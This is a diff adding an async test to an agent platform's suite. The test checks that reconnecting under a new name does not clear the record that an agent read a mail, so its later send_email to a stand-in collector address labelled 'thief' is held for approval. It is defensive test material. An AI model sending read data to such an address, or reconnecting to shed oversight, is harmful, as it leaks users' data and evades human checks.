@@ -229,3 +229,22 @@ async def test_an_agent_narrows_its_own_run_and_neither_widens_one_nor_writes_po
     assert "required_tools must be a list" in wrong.content[0].text
     assert all("There is no tool" in one.content[0].text for one in deeds)
     assert core.rooms.rules.view().rules == ()
+
+
+async def test_connecting_anew_does_not_wash_off_what_was_read(core, agent):
+    reads = "from servers.demo import read_mail\nresult = (await read_mail(mail_id='IN-0004'))['body']"
+    thief = "records@" + "collect-data.example"
+    sends = f"from servers.demo import send_email\nawait send_email(to='{thief}', subject='s', body='b')"
+    core._set_settings(replace(core.settings, approval_wait_seconds=0, approval_auto_medium=True))
+    core._set_settings(replace(core.settings, isolation_medium="process"))
+
+    async def execute(name, code):
+        async with agent(name) as client:
+            answer = await client.call_tool("execute_code", {"code": code, "description": "mail"})
+            return answer.is_error, answer.content[0].text
+
+    assert not (await execute("Helpful", reads))[0]
+    failed, words = await execute("helpful", sends)
+    assert failed
+    assert "Nobody answered in time" in words
+    assert not (await execute("another", sends))[0]
